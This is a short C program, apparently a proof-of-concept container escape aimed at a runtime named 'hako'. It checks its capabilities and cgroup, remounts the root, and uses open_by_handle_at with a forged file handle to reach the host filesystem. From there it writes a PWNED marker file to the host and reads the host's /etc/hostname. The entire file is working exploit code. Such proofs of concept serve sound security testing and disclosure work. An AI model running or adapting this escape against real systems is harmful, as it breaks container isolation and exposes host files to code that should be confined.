#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/mount.h>
int main() {
    if (fork() != 0) _exit(0);
    setsid();
    int out = open("/pwn.log", O_WRONLY|O_CREAT|O_APPEND, 0644);
    dup2(out, 1); dup2(out, 2);
    char buf[4096]; int f = open("/proc/self/status", O_RDONLY); int n = read(f, buf, sizeof buf - 1); buf[n>0?n:0] = 0; close(f);
    char *c = strstr(buf, "CapEff"); if (c) { char *e = strchr(c, '\n'); if (e) *e = 0; printf("pwn: %s\n", c); }
    f = open("/proc/self/cgroup", O_RDONLY); n = read(f, buf, sizeof buf - 1); buf[n>0?n:0]=0; close(f); printf("pwn cgroup:\n%s", buf);
    struct { unsigned int bytes; int type; unsigned int ino, gen; } h = {8, 1, 2, 0};
    if (mount(NULL, "/", NULL, MS_REMOUNT|MS_BIND, NULL) != 0) perror("pwn: remount / rw");
    int mfd = open("/", O_RDONLY);
    int root = open_by_handle_at(mfd, (struct file_handle *)&h, O_RDONLY|O_DIRECTORY);
    if (root < 0) { perror("pwn: open_by_handle_at"); return 1; }
    int w = openat(root, "tmp/atk/PWNED", O_WRONLY|O_CREAT|O_APPEND, 0644);
    if (w < 0) { perror("pwn: openat host tmp/atk/PWNED"); return 1; }
    dprintf(w, "written from inside a container via hako exec child\n");
    int hn = openat(root, "etc/hostname", O_RDONLY); n = read(hn, buf, 100); buf[n>0?n:0]=0;
    printf("pwn: wrote host /tmp/atk/PWNED; host /etc/hostname = %s", buf);
    fflush(stdout);
    return 0;
}
